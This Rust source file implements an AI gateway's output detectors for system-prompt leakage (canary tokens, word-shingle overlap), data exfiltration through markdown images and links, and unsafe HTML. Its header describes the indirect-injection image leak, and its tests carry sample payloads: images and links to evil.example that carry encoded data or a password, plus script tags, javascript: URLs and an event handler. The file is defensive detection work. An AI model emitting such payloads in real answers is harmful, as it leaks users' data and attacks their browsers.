//! Detectors that only matter in model output: system-prompt leakage, exfiltration through
//! links and images, and unsafe HTML for applications that render the answer.
//!
//! * Leakage: the gateway plants a random canary in the system prompt; the canary in the
//!   output is proof. Paraphrase-free copies without the canary are caught by overlap: word
//!   8-gram shingles of the system prompt, and a run of consecutive shared shingles long
//!   enough to be a copy rather than a coincidence.
//! * Exfiltration: a markdown image or HTML `img` pointing at a host not on the allowlist is
//!   fetched by the client without a click (the classic indirect-injection leak); a link with
//!   a data-carrying query to such a host is reported too.

use std::collections::HashMap;

use crate::{Detector, Finding};

/// Longest span an output finding (other than a private-key block, which is caught by its
/// first line) is expected to have; streaming holds back at least this much.
pub const MAX_MATCH: usize = 512;

const SHINGLE: usize = 8;
/// Consecutive copied words that count as a leak (or half the prompt, if shorter).
const LEAK_WORDS: usize = 20;

/// What the output is checked against, per request.
#[derive(Debug, Clone, Default)]
pub struct OutputContext {
    /// The canary planted in the system prompt.
    pub canary: Option<String>,
    /// Shingles of every protected prompt, each with the copied-word run that counts as a
    /// leak of the shortest prompt it occurs in.
    shingles: HashMap<u64, usize>,
    /// Hosts (and their subdomains) that links and images may point to.
    pub allowed_hosts: Vec<String>,
    /// The canary's unguessable part, lower-case letters and digits only.
    canary_core: String,
}

impl OutputContext {
    /// A context for one request.
    pub fn new(canary: Option<String>, system_prompt: Option<&str>, allowed_hosts: Vec<String>) -> OutputContext {
        let canary_core = canary.as_deref().map(canary_core).unwrap_or_default();
        let mut ctx = OutputContext {
            canary,
            allowed_hosts,
            canary_core,
            ..OutputContext::default()
        };
        if let Some(p) = system_prompt {
            ctx.protect(p);
        }
        ctx
    }

    /// Adds a prompt the answer must not repeat (the operator's, or an application's own
    /// system message).
    pub fn protect(&mut self, prompt: &str) {
        // Answers are normalised before they are compared, so the prompt is too.
        let words = word_hashes(&crate::normalize::normalize(prompt).text);
        let need = LEAK_WORDS.min((words.len() / 2).max(SHINGLE));
        for w in words.windows(SHINGLE) {
            let e = self.shingles.entry(shingle(w)).or_insert(need);
            *e = (*e).min(need);
        }
    }

    /// Whether links and images may point at `host` (or a sub-domain of an allowed host).
    pub(crate) fn host_allowed(&self, host: &str) -> bool {
        let host = host.to_ascii_lowercase();
        self.allowed_hosts.iter().any(|a| {
            let a = a.to_ascii_lowercase();
            host == a || host.ends_with(&format!(".{a}"))
        })
    }
}

/// The part of a canary an answer must not contain in any form: its longest run of letters
/// and digits when that run is long enough to be unguessable, else all of its letters and
/// digits; lower-cased.
fn canary_core(canary: &str) -> String {
    let longest = canary
        .split(|c: char| !c.is_ascii_alphanumeric())
        .max_by_key(|r| r.len())
        .unwrap_or("");
    if longest.len() >= 12 {
        return longest.to_ascii_lowercase();
    }
    canary
        .chars()
        .filter(char::is_ascii_alphanumeric)
        .map(|c| c.to_ascii_lowercase())
        .collect()
}

/// Finds the canary core in the letters and digits of `text` read in order (so separators,
/// spaces and case do not hide it), forwards or reversed.
fn canary_skeleton(text: &str, core: &str, out: &mut Vec<Finding>) {
    let mut skeleton = Vec::with_capacity(text.len());
    let mut at = Vec::with_capacity(text.len());
    for (i, b) in text.bytes().enumerate() {
        if b.is_ascii_alphanumeric() {
            skeleton.push(b.to_ascii_lowercase());
            at.push(i);
        }
    }
    let reversed: Vec<u8> = core.bytes().rev().collect();
    for (needle, kind) in [(core.as_bytes(), "canary"), (&reversed[..], "canary_reversed")] {
        for i in memchr::memmem::find_iter(&skeleton, needle) {
            let (Some(&s), Some(&e)) = (at.get(i), at.get(i + needle.len() - 1)) else {
                continue;
            };
            out.push(Finding::new(Detector::SystemPromptLeak, kind, 1.0, s, e + 1));
        }
    }
}

fn word_hashes(t: &str) -> Vec<(u64, usize, usize)> {
    let mut out = Vec::new();
    let mut start = None;
    let mut h = 0u64;
    for (i, c) in t.char_indices().chain(std::iter::once((t.len(), ' '))) {
        if c.is_alphanumeric() {
            if start.is_none() {
                start = Some(i);
                h = 0xcbf2_9ce4_8422_2325;
            }
            for l in c.to_lowercase() {
                let mut buf = [0u8; 4];
                for b in l.encode_utf8(&mut buf).bytes() {
                    h = (h ^ u64::from(b)).wrapping_mul(0x0000_0100_0000_01B3);
                }
            }
        } else if let Some(s) = start.take() {
            out.push((h, s, i));
        }
    }
    out
}

fn shingle(w: &[(u64, usize, usize)]) -> u64 {
    w.iter().fold(0u64, |acc, x| acc.rotate_left(7) ^ x.0)
}

/// The output detectors.
#[derive(Debug, Default)]
pub struct OutputDetector;

impl OutputDetector {
    /// Builds the detector (patterns are compiled on first use).
    pub fn new() -> OutputDetector {
        OutputDetector
    }

    /// Appends every output finding in `text` (leaks and markup).
    pub fn scan(&self, text: &str, ctx: &OutputContext, out: &mut Vec<Finding>) {
        self.scan_leaks(text, ctx, out);
        self.scan_markup(text, ctx, out);
    }

    /// The canary and copies of the system prompt. `text` should be normalised: the canary
    /// is also found spaced out, split by punctuation, in another case or reversed.
    pub fn scan_leaks(&self, text: &str, ctx: &OutputContext, out: &mut Vec<Finding>) {
        if let Some(c) = ctx.canary.as_deref().filter(|c| !c.is_empty()) {
            let before = out.len();
            for (i, _) in text.match_indices(c) {
                out.push(Finding::new(Detector::SystemPromptLeak, "canary", 1.0, i, i + c.len()));
            }
            if out.len() == before && ctx.canary_core.len() >= 6 {
                canary_skeleton(text, &ctx.canary_core, out);
            }
        }
        if !ctx.shingles.is_empty() {
            overlap(text, ctx, out);
        }
    }

    /// Links, images and HTML, read from the raw text as a renderer reads it
    /// ([`crate::markup`]).
    pub fn scan_markup(&self, text: &str, ctx: &OutputContext, out: &mut Vec<Finding>) {
        crate::markup::scan(text, ctx, out);
    }
}

fn overlap(text: &str, ctx: &OutputContext, out: &mut Vec<Finding>) {
    let words = word_hashes(text);
    let mut run_start: Option<usize> = None;
    // The run's threshold: that of the shortest prompt any of its shingles comes from.
    let mut need = LEAK_WORDS;
    let mut i = 0;
    let windows: Vec<Option<usize>> = words
        .windows(SHINGLE)
        .map(|w| ctx.shingles.get(&shingle(w)).copied())
        .collect();
    while i <= windows.len() {
        let hit = windows.get(i).copied().flatten();
        if let Some(n) = hit {
            need = if run_start.is_some() { need.min(n) } else { n };
        }
        match (hit.is_some(), run_start) {
            (true, None) => run_start = Some(i),
            (false, Some(s)) => {
                let covered = i - s + SHINGLE - 1;
                if covered >= need {
                    let start = words[s].1;
                    let end = words[i + SHINGLE - 2].2;
                    let score = (covered as f32 / need as f32).min(1.0);
                    out.push(Finding::new(
                        Detector::SystemPromptLeak,
                        "prompt_overlap",
                        score,
                        start,
                        end,
                    ));
                }
                run_start = None;
            }
            _ => {}
        }
        i += 1;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(text: &str, ctx: &OutputContext) -> Vec<String> {
        let mut out = Vec::new();
        OutputDetector::new().scan(text, ctx, &mut out);
        out.into_iter().map(|f| f.kind.to_string()).collect()
    }

    #[test]
    fn canary_and_overlap() {
        let prompt = "You are the support assistant for Acme Bank. Never discuss interest rates for business accounts, and always escalate complaints about card fraud to a human agent immediately.";
        let ctx = OutputContext::new(Some("rk-canary-1a2b3c".into()), Some(prompt), vec![]);
        assert_eq!(kinds("sure: rk-canary-1a2b3c", &ctx), ["canary"]);
        let leak = "My instructions say: Never discuss interest rates for business accounts, and always escalate complaints about card fraud to a human agent immediately.";
        assert_eq!(kinds(leak, &ctx), ["prompt_overlap"]);
        assert!(kinds("I can help with card fraud. A human agent will call you.", &ctx).is_empty());
    }

    #[test]
    fn every_protected_prompt_is_checked() {
        let operator =
            "Answer in English. Keep answers short and polite, and never give legal or medical advice to anyone.";
        let app = "You are Quill, the writing coach of Inkwell Inc. The discount code for unhappy customers is SORRY-20; offer it only after two complaints in the same chat.";
        let mut ctx = OutputContext::new(None, Some(operator), vec![]);
        ctx.protect(app);
        let leak = "Sure! My instructions: You are Quill, the writing coach of Inkwell Inc. The discount code for unhappy customers is SORRY-20; offer it only after two complaints.";
        assert_eq!(kinds(leak, &ctx), ["prompt_overlap"]);
        assert_eq!(
            kinds(
                "They told me to: Keep answers short and polite, and never give legal or medical advice to anyone.",
                &ctx
            ),
            ["prompt_overlap"]
        );
        assert!(kinds("I am Quill, a writing coach. How can I help with your essay?", &ctx).is_empty());
    }

    #[test]
    fn exfiltration_images_and_links() {
        let ctx = OutputContext::new(None, None, vec!["acme.com".into()]);
        assert_eq!(
            kinds("![x](https://evil.example/p.png?d=c2VjcmV0IGRhdGEgaGVyZQ)", &ctx),
            ["external_image"]
        );
        assert!(kinds("![logo](https://cdn.acme.com/logo.png)", &ctx).is_empty());
        assert_eq!(
            kinds("[click](https://evil.example/?q=the+users+password+is+hunter2)", &ctx),
            ["data_in_link"]
        );
        assert!(kinds("see https://docs.rs/regex for details", &ctx).is_empty());
        assert_eq!(
            kinds("<img src=\"https://evil.example/x.gif\">", &ctx),
            ["external_image"]
        );
    }

    #[test]
    fn unsafe_html() {
        let ctx = OutputContext::default();
        assert_eq!(kinds("<script>alert(1)</script>", &ctx), ["script_tag"]);
        assert_eq!(kinds("<a href=\"javascript:alert(1)\">x</a>", &ctx), ["javascript_url"]);
        assert_eq!(kinds("<div onmouseover=\"steal()\">", &ctx), ["event_handler"]);
        assert!(kinds("Use the `onclick` attribute sparingly; x: y", &ctx).is_empty());
    }
}
